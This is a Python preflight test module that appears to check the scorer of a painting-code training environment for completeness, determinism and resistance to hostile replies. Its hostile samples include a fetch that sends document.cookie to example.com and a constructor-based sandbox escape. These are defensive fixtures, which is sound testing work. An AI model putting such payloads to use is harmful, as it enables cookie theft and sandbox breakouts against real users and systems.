"""Checks that the scorer of a run answers, answers the same again, and cannot be bought."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from env_server.result import Result
from rewards.domain import load_domain
from rewards.draw import draw, parse_schedule
from rewards.mix import GATE
from rewards.pool import PoolError
from rewards.pool_source import open_pool
from training.preflight.finding import Finding, fail, ok, warn
from training.preflight.flight import Flight

_UNPAINTED = "the scorer gave no painting to look at"
# Engines that do not promise the same bytes twice; docs/performance.md.
_UNSTEADY = "swiftshader"
_HOSTILE: Mapping[str, str] = {
    "empty": "",
    "prose": "I would rather not paint today.",
    "network": "```js\nfunction setup() {\n  createCanvas(200, 200, WEBGL);\n"
    '  fetch("https://example.com/?" + document.cookie);\n}\n```\n',
    "escape": "```js\nfunction setup() {\n  createCanvas(200, 200, WEBGL);\n"
    '  brush.fill.constructor("return globalThis")().process.exit(1);\n}\n```\n',
}


def check_scorers(flight: Flight) -> Iterator[Finding]:
    """One real painting end to end: every weighted term has a value."""
    painted = flight.painted
    result = painted.result
    if result.admitted is False:
        said = "; ".join(v.message for v in result.gate.violations)
        yield warn("painting", f"not checked: the gate refuses {painted.name}: {said}")
        return
    if result.painting is None:
        yield fail("painting", f"{painted.name} was not painted: {_why(result)}", "atelier doctor")
    else:
        seen = result.painting
        yield ok(
            "painting",
            f"{painted.name}: {seen.width} x {seen.height}, {len(seen.png) / 1000:.0f} kB, "
            f"{result.elapsed_ms / 1000:.1f} s, {seen.engine}",
        )
    for term in result.reward.terms:
        if term.name == GATE or term.weight == 0:
            continue
        name, value = f"term {term.name}", term.score.value
        if value is None:
            # Where nobody scored at all, the term has no reason of its own.
            why = _why(result) if result.errors else term.score.reason
            mend = "docs/taste.md; or take the term out of task.mix"
            yield fail(name, f"weighs {term.weight:g} and has no value: {why}", mend)
        else:
            yield ok(name, f"{value:.3f}, weighs {term.weight:g}")


def check_references(flight: Flight) -> Iterator[Finding]:
    """At every stage of the schedule the pool holds the references that are to be drawn."""
    task, name = flight.recipe.task, "references"
    pool = task.pool or load_domain(task.domain).pool
    if task.server is not None or pool is None or not flight.mix.weights.get("judge"):
        yield ok(name, "the server draws them" if task.server else "none are compared with")
        return
    stages = parse_schedule(task.tiers).stages
    try:
        for _, weights in stages:
            draw(open_pool(pool), task.references, weights, 0)
    except PoolError as error:
        yield fail(name, str(error), "task.tiers, task.references")
        return
    yield ok(name, f"{task.references} of pool {pool} in each of {len(stages)} stages")


def check_determinism(flight: Flight) -> Iterator[Finding]:
    """The same job again gives the same display list, picture and terms."""
    before, name = flight.painted.result, "determinism"
    if before.admitted is not True:
        yield warn(name, f"not checked: {_UNPAINTED}")
        return
    (after,) = flight.score([flight.painted.job])
    lists = [r.performance.display_list.digest if r.performance else None for r in (before, after)]
    pictures = [
        (r.painting.digest, r.painting.png) if r.painting else None for r in (before, after)
    ]
    if None in pictures:
        yield warn(name, f"not checked: {_UNPAINTED}")
    elif lists[0] != lists[1]:
        yield fail(name, f"the display list was {lists[0]} and then {lists[1]}", "report it")
    elif after.painting is not None and "cache" in after.painting.stages:
        yield warn(name, "not checked: the second picture is the first, which --cache kept")
    elif pictures[0] != pictures[1]:
        yield _unlike(before, after)
    elif terms := _differences(before, after):
        mend = "a judge that samples: its temperature to 0, or more references"
        yield warn(name, f"the same picture, and other terms: {terms}", mend)
    else:
        yield ok(name, f"the same {_same(before)} and terms again")


def check_hostile(flight: Flight) -> Iterator[Finding]:
    """What is hostile or empty earns 0 with a violation; it cannot buy itself a None."""
    results = flight.score([flight.job(text) for text in _HOSTILE.values()])
    wrong = [
        f"{name}: reward {result.reward.value}, "
        f"{', '.join(v.code.value for v in result.gate.violations) or _why(result)}"
        for name, result in zip(_HOSTILE, results, strict=True)
        if result.reward.value != 0.0 or not result.gate.violations
    ]
    if wrong:
        yield fail("hostile replies", "; ".join(wrong), "a reply must not earn this; report it")
        return
    codes = dict.fromkeys(v.code.value for r in results for v in r.gate.violations)
    yield ok("hostile replies", f"{len(results)} earn 0: {', '.join(codes)}")


def _unlike(before: Result, after: Result) -> Finding:
    assert before.painting is not None
    assert after.painting is not None
    engines = dict.fromkeys((before.painting.engine, after.painting.engine))
    said = f"the same list, and another picture: {' and then '.join(engines)}"
    if len(engines) == 1 and _UNSTEADY in before.painting.engine.casefold():
        mend = (
            "this driver does not promise the same bytes; docs/performance.md names one that does"
        )
        return warn("determinism", said, mend)
    return fail("determinism", said, "one engine and driver for all that paint; atelier doctor")


def _same(result: Result) -> str:
    if result.performance is None:
        return "picture (which the server may remember)"
    return "display list, picture"


def _differences(before: Result, after: Result) -> str:
    pairs = zip(before.reward.terms, after.reward.terms, strict=True)
    return ", ".join(
        f"{a.name} {a.score.value} and then {b.score.value}"
        for a, b in pairs
        if a.score.value != b.score.value
    )


def _why(result: Result) -> str:
    said = [*result.errors, *result.reward.notes, *result.gate.notes]
    return said[0] if said else "no reason was given"
